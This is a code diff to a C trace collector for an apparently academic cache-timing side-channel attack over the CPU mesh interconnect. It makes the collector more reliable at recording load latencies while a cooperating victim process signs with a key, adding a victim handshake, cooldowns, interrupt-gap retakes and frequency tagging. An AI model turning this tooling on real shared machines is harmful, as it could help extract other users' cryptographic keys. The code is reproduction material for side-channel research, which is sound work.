@@ -1,12 +1,22 @@
 #include "../util/util.h"
 #include "scutil/dont-mesh-around.h"
 #include "../util/machine_const.h"
+#include "../util/topology.h"
+#include "../util/sample_guard.h"
+#include "../util/freq_tag.h"
+#include "../util/host_profile.h"
 
 #include <string.h>
 #include <x86intrin.h>
 
 #define BUF_SIZE 400 * 1024UL * 1024 /* Buffer Size -> 400*1MB */
 #define MAXSAMPLES 100000
+#define MAX_RETAKES 10 /* Consecutive re-takes before keeping (and tagging) an interrupted trace */
+#define VICTIM_TIMEOUT_CYCLES 10000000000UL /* Time given to the victim to reach the iteration of interest */
+
+// Comment out to keep the traces hit by interrupts (tagged in a .gaps file)
+// instead of re-taking them
+#define RETAKE_ON_GAP
 
 static inline void access_ev(struct Node *ev)
 {
@@ -25,6 +35,38 @@ static inline void access_ev(struct Node *ev)
 	}
 }
 
+/*
+ * Measures the cooldown between two traces (see dont-mesh-around.h): has the
+ * victim run COOLDOWN_ROUNDS times and, each time it is back at its wait loop,
+ * probes the monitoring set like the traces do for COOLDOWN_MAX_CYCLES.
+ */
+static void measure_cooldown(struct cooldown *cool, struct handshake *hs, struct Node *monitoring_set, struct Node *ev)
+{
+	for (int round = 0; round < COOLDOWN_ROUNDS; round++) {
+		hs->share->sign_requested = 1;
+		if (!handshake_wait_start(hs, VICTIM_TIMEOUT_CYCLES) || !handshake_wait_end(hs, VICTIM_TIMEOUT_CYCLES)) {
+			fprintf(stderr, "Missed run while measuring the cooldown\n");
+		}
+		cooldown_start(cool, hs);
+		if (!cool->tracked) {
+			return;
+		}
+
+		while (__rdtsc() - cool->idle_at < COOLDOWN_MAX_CYCLES) {
+			struct Node *curr_node = monitoring_set;
+			while (curr_node != NULL) {
+				uint32_t latency = time_load(curr_node->address);
+				cooldown_record(cool, __rdtsc(), latency);
+				curr_node = curr_node->next;
+			}
+
+			_mm_lfence();
+			access_ev(ev);
+		}
+	}
+	cooldown_from_decay(cool);
+}
+
 int main(int argc, char **argv)
 {
 	int i, j;
@@ -87,9 +129,24 @@ int main(int argc, char **argv)
 	// This time we do not set the priority like in the RE because
 	// doing so would use root and we want our actual attack
 	// to be realistic for a user space process
-	int cpu = cha_id_to_cpu[core_ID];
+	int cpu = cha_to_cpu(core_ID);
 	pin_cpu(cpu);
 
+	// Tag the traces with the core and uncore frequencies (a trace is shorter
+	// than a block, so each one gets a single tag)
+	struct freq_tag freq;
+	freq_tag_init(&freq, cpu);
+	fprintf(stderr, "Frequency tagging: %s\n", freq_tag_name(&freq));
+
+	// Wait for the victim without spinning on the shared struct
+	struct handshake hs;
+	handshake_init(&hs, sharestruct);
+	if (handshake_measure_wake_latency(&hs, HANDSHAKE_WAKE_ROUNDS) > 0) {
+		fprintf(stderr, "Handshake: %s (wake-up latency %" PRIu64 " cycles)\n", handshake_name(&hs), hs.wake_latency);
+	} else {
+		fprintf(stderr, "Handshake: %s\n", handshake_name(&hs));
+	}
+
 	//////////////////////////////////////////////////////////////////////
 	// Set up memory
 	//////////////////////////////////////////////////////////////////////
@@ -204,6 +261,14 @@ int main(int argc, char **argv)
 
 	// Prepare samples array
 	uint32_t *samples = (uint32_t *)malloc(sizeof(*samples) * MAXSAMPLES);
+	uint32_t *starts = (uint32_t *)malloc(sizeof(*starts) * MAXSAMPLES); /* To drop the samples taken after the end */
+
+	// Prepare the gap detection
+	static struct gap_log gaps;
+	static struct freq_log freqs;
+	static struct irq_snapshot irqs_before, irqs_after;
+	gap_log_init(&gaps, gap_bound_from_profile(), GAP_SETTLE_SAMPLES);
+	int retakes = 0;
 	fprintf(stderr, "READY\n");
 
 	// Warm up
@@ -223,7 +288,32 @@ int main(int argc, char **argv)
 	// Ready to go
 	//////////////////////////////////////////////////////////////////////
 
+	// Capture one iteration per request (see mesh-monitor-multi-iteration)
+	sharestruct->capture_iterations = 0;
+
+	// Wait between two traces until the noise of the previous victim run has
+	// decayed (the cooldown_cycles of the latency profile, or measured now and
+	// written to the profile for the next runs)
+	static struct cooldown cool;
+	int cooldown_cycles;
+	if (host_profile_get_int(HOST_PROFILE_LATENCY, "cooldown_cycles", &cooldown_cycles) == 0 && cooldown_cycles >= 0) {
+		cooldown_init(&cool, cooldown_cycles);
+	} else {
+		cooldown_init(&cool, COOLDOWN_MAX_CYCLES);
+		measure_cooldown(&cool, &hs, monitoring_set, ev);
+		if (cool.tracked && host_profile_set_int(HOST_PROFILE_LATENCY, "cooldown_cycles", (int)cool.cycles) != 0) {
+			fprintf(stderr, "Warning: could not write the cooldown to the latency profile\n");
+		}
+	}
+	cooldown_start(&cool, &hs);
+	if (cool.tracked) {
+		fprintf(stderr, "Cooldown: %" PRIu64 " cycles\n", cool.cycles);
+	} else {
+		fprintf(stderr, "Cooldown: %d cycles (the victim does not publish its state)\n", COOLDOWN_MAX_CYCLES);
+	}
+
 	printf("Now collecting train data\n");
+	int irqs_ok = irq_snapshot_take(cpu, &irqs_before) == 0;
 
 	int rept_index;
 	for (rept_index = 0; rept_index < repetitions_train; rept_index++) {
@@ -235,15 +325,14 @@ int main(int argc, char **argv)
 		// FIXME: try without
 		sharestruct->use_randomized_key = 1;
 
-		// Wait a moment before starting
-		wait_cycles(150000000);
-
 		// Collect one trace for each iteration with this key
 		int victim_iteration_no;
 		for (victim_iteration_no = 1; victim_iteration_no < victim_iteration_no_last + 1; victim_iteration_no++) {
 			// Prepare
-			uint8_t active = 0;
-			uint32_t waiting_for_victim = 0;
+			uint8_t interrupted = 0;
+			uint8_t ended = 0;
+			uint8_t skipped = 0;
+			gap_log_reset(&gaps);
 
 			// Read addresses from monitoring set into cache
 			curr_node = monitoring_set;
@@ -256,6 +345,9 @@ int main(int argc, char **argv)
 			_mm_lfence();
 			access_ev(ev);
 
+			// Wait for the rest of the cooldown
+			cooldown_wait(&cool);
+
 			// Double-check that the victim has not started yet
 			if (sharestruct->iteration_of_interest_running) {
 				fprintf(stderr, "victim already started?\n");
@@ -264,58 +356,84 @@ int main(int argc, char **argv)
 			// Request the victim to sign
 			sharestruct->sign_requested = victim_iteration_no;
 
+			// Wait for the victim's iteration of interest to start
+			if (handshake_wait_start(&hs, VICTIM_TIMEOUT_CYCLES)) {
+				freq_log_start(&freqs, &freq);
+				gap_log_arm(&gaps, (uint32_t)get_time());
+			} else {
+				skipped = 1;
+			}
+
 			// Start monitoring loop
+			uint32_t last_start = (uint32_t)__rdtsc();
 			curr_node = monitoring_set;
-			for (i = 0; i < MAXSAMPLES; i++) {
+			for (i = 0; i < MAXSAMPLES && !skipped; i++) {
 
-				// Check if the victim's iteration of interest ended
-				if (active) {
-					if (!sharestruct->iteration_of_interest_running) {
-						break;
-					}
-				}
-
-				// Check if the victim's iteration of interest started
-				if (!active) {
-					i = 0;
-					if (sharestruct->iteration_of_interest_running) {
-						active = 1;
-					} else {
-						waiting_for_victim++;
-						if (waiting_for_victim == UINT32_MAX) {
-							break;
-						}
-						continue;
-					}
+				// Check if the victim's iteration of interest ended (only
+				// every few samples, see dont-mesh-around.h)
+				if (handshake_end_due(&hs, i, last_start) && !handshake_running(&hs)) {
+					ended = 1;
+					break;
 				}
 
 				if ((i != 0) && ((i % (total_sets * monitoring_set_size)) == 0)) {
 					// Skip when we had to access the EV
-					waiting_for_victim = UINT32_MAX;
+					skipped = 1;
 					break;
 				}
 
+				uint32_t start;
 				asm volatile(
 					".align 32\n\t"
 					"lfence\n\t"
 					"rdtsc\n\t"				/* eax = TSC (timestamp counter) */
 					"movl %%eax, %%r8d\n\t" /* r8d = eax */
-					"movq (%1), %%r9\n\t"	/* r9 = *(current->address); LOAD */
+					"movq (%2), %%r9\n\t"	/* r9 = *(current->address); LOAD */
 					"rdtscp\n\t"			/* eax = TSC (timestamp counter) */
 					"sub %%r8d, %%eax\n\t"	/* eax = eax - r8d; get timing difference between the second timestamp and the first one */
 					"movl %%eax, %0\n\t"	/* samples[j++] = eax */
+					"movl %%r8d, %1\n\t"	/* start = r8d */
 
-					: "=rm"(samples[i]) /* output */
+					: "=rm"(samples[i]), "=rm"(start) /* output */
 					: "r"(curr_node->address)
 					: "rax", "rcx", "rdx", "r8", "r9", "memory");
 
+				starts[i] = last_start = start;
+
+				// Check if we were interrupted since the previous sample
+				if (gap_check(&gaps, i, start)) {
+#ifdef RETAKE_ON_GAP
+					if (retakes < MAX_RETAKES) {
+						interrupted = 1;
+						break;
+					}
+#endif
+				}
+
 				curr_node = curr_node->next;
 			}
 
+			// Drop the samples taken after the end of the iteration
+			if (ended) {
+				i = handshake_trim(&hs, starts, i);
+				freq_log_finish(&freqs, i);
+			}
+
+			// Re-take the trace if it was interrupted
+			if (interrupted) {
+				victim_iteration_no--;
+				retakes++;
+
+				// Wait for the victim to be back at its wait loop
+				cooldown_start(&cool, &hs);
+				continue;
+			}
+			retakes = 0;
+
 			// Check that the victim's iteration of interest is actually ended
-			if (waiting_for_victim == UINT32_MAX || sharestruct->iteration_of_interest_running || i >= MAXSAMPLES) {
-				// Wait some time before next trace
-				wait_cycles(150000000);
+			if (!ended || sharestruct->iteration_of_interest_running || i >= MAXSAMPLES) {
+				// Wait for the victim to be back at its wait loop
+				cooldown_start(&cool, &hs);
 				continue;
 			}
 
@@ -337,8 +455,20 @@ int main(int argc, char **argv)
 				fprintf(output_data, "%" PRIu32 "\n", samples[i]);
 			}
 
-			// Wait some time before next trace
-			wait_cycles(150000000);
+			// Store the samples hit by interrupts (if any) next to the trace
+			if (gaps.nr_ranges > 0) {
+				char output_gaps_fn[72];
+				sprintf(output_gaps_fn, "%s.gaps", output_data_fn);
+				gap_log_write(&gaps, output_gaps_fn, NULL, NULL);
+			}
+
+			// Store the frequencies of the trace next to it
+			char output_freq_fn[72];
+			sprintf(output_freq_fn, "%s" FREQ_SUFFIX, output_data_fn);
+			freq_log_write(&freqs, output_freq_fn);
+
+			// Wait for the victim to be back at its wait loop
+			cooldown_start(&cool, &hs);
 
 			// Close the files for this trace
 			fclose(output_data);
@@ -358,8 +488,10 @@ int main(int argc, char **argv)
 		int victim_iteration_no;
 		for (victim_iteration_no = 1; victim_iteration_no < victim_iteration_no_last + 1; victim_iteration_no++) {
 			// Prepare
-			uint8_t active = 0;
-			uint32_t waiting_for_victim = 0;
+			uint8_t interrupted = 0;
+			uint8_t ended = 0;
+			uint8_t skipped = 0;
+			gap_log_reset(&gaps);
 
 			// Read addresses from monitoring set into cache
 			curr_node = monitoring_set;
@@ -372,6 +504,9 @@ int main(int argc, char **argv)
 			_mm_lfence();
 			access_ev(ev);
 
+			// Wait for the rest of the cooldown
+			cooldown_wait(&cool);
+
 			// Double-check that the victim has not started yet
 			if (sharestruct->iteration_of_interest_running) {
 				fprintf(stderr, "victim already started?\n");
@@ -380,60 +515,84 @@ int main(int argc, char **argv)
 			// Request the victim to sign
 			sharestruct->sign_requested = victim_iteration_no;
 
+			// Wait for the victim's iteration of interest to start
+			if (handshake_wait_start(&hs, VICTIM_TIMEOUT_CYCLES)) {
+				freq_log_start(&freqs, &freq);
+				gap_log_arm(&gaps, (uint32_t)get_time());
+			} else {
+				skipped = 1;
+			}
+
 			// Start monitoring loop
+			uint32_t last_start = (uint32_t)__rdtsc();
 			curr_node = monitoring_set;
-			for (i = 0; i < MAXSAMPLES; i++) {
+			for (i = 0; i < MAXSAMPLES && !skipped; i++) {
 
-				// Check if the victim's iteration of interest ended
-				if (active) {
-					if (!sharestruct->iteration_of_interest_running) {
-						break;
-					}
-				}
-
-				// Check if the victim's iteration of interest started
-				if (!active) {
-					i = 0;
-					if (sharestruct->iteration_of_interest_running) {
-						active = 1;
-					} else {
-						waiting_for_victim++;
-						if (waiting_for_victim == UINT32_MAX) {
-							// fprintf(stderr, "Missed run\n");
-							// victim_iteration_no--;
-							break;
-						}
-						continue;
-					}
+				// Check if the victim's iteration of interest ended (only
+				// every few samples, see dont-mesh-around.h)
+				if (handshake_end_due(&hs, i, last_start) && !handshake_running(&hs)) {
+					ended = 1;
+					break;
 				}
 
 				if ((i != 0) && ((i % (total_sets * 16)) == 0)) {
 					// Skip when we had to access the EV
-					waiting_for_victim = UINT32_MAX;
+					skipped = 1;
 					break;
 				}
 
+				uint32_t start;
 				asm volatile(
 					".align 32\n\t"
 					"lfence\n\t"
 					"rdtsc\n\t"				/* eax = TSC (timestamp counter) */
 					"movl %%eax, %%r8d\n\t" /* r8d = eax */
-					"movq (%1), %%r9\n\t"	/* r9 = *(current->address); LOAD */
+					"movq (%2), %%r9\n\t"	/* r9 = *(current->address); LOAD */
 					"rdtscp\n\t"			/* eax = TSC (timestamp counter) */
 					"sub %%r8d, %%eax\n\t"	/* eax = eax - r8d; get timing difference between the second timestamp and the first one */
 					"movl %%eax, %0\n\t"	/* samples[j++] = eax */
+					"movl %%r8d, %1\n\t"	/* start = r8d */
 
-					: "=rm"(samples[i]) /* output */
+					: "=rm"(samples[i]), "=rm"(start) /* output */
 					: "r"(curr_node->address)
 					: "rax", "rcx", "rdx", "r8", "r9", "memory");
 
+				starts[i] = last_start = start;
+
+				// Check if we were interrupted since the previous sample
+				if (gap_check(&gaps, i, start)) {
+#ifdef RETAKE_ON_GAP
+					if (retakes < MAX_RETAKES) {
+						interrupted = 1;
+						break;
+					}
+#endif
+				}
+
 				curr_node = curr_node->next;
 			}
 
+			// Drop the samples taken after the end of the iteration
+			if (ended) {
+				i = handshake_trim(&hs, starts, i);
+				freq_log_finish(&freqs, i);
+			}
+
+			// Re-take the trace if it was interrupted
+			if (interrupted) {
+				victim_iteration_no--;
+				retakes++;
+
+				// Wait for the victim to be back at its wait loop
+				cooldown_start(&cool, &hs);
+				continue;
+			}
+			retakes = 0;
+
 			// Check that the victim's iteration of interest is actually ended
-			if (waiting_for_victim == UINT32_MAX || sharestruct->iteration_of_interest_running || i >= MAXSAMPLES) {
-				// Wait some time before next trace
-				wait_cycles(150000000);
+			if (!ended || sharestruct->iteration_of_interest_running || i >= MAXSAMPLES) {
+				// Wait for the victim to be back at its wait loop
+				cooldown_start(&cool, &hs);
 				continue;
 			}
 
@@ -455,17 +614,36 @@ int main(int argc, char **argv)
 				fprintf(output_data, "%" PRIu32 "\n", samples[i]);
 			}
 
-			// Wait some time before next trace
-			wait_cycles(150000000);
+			// Store the samples hit by interrupts (if any) next to the trace
+			if (gaps.nr_ranges > 0) {
+				char output_gaps_fn[72];
+				sprintf(output_gaps_fn, "%s.gaps", output_data_fn);
+				gap_log_write(&gaps, output_gaps_fn, NULL, NULL);
+			}
+
+			// Store the frequencies of the trace next to it
+			char output_freq_fn[72];
+			sprintf(output_freq_fn, "%s" FREQ_SUFFIX, output_data_fn);
+			freq_log_write(&freqs, output_freq_fn);
+
+			// Wait for the victim to be back at its wait loop
+			cooldown_start(&cool, &hs);
 
 			// Close the files for this trace
 			fclose(output_data);
 		}
 	}
 
+	// Report the interrupts received during the collection
+	if (irqs_ok && irq_snapshot_take(cpu, &irqs_after) == 0) {
+		irq_snapshot_report(stderr, "\n", &irqs_before, &irqs_after);
+	}
+
 	// Free the buffers and file
+	freq_tag_close(&freq);
 	munmap(buffer, BUF_SIZE);
 	free(samples);
+	free(starts);
 
 	// Clean up lists
 	struct Node *tmp = NULL;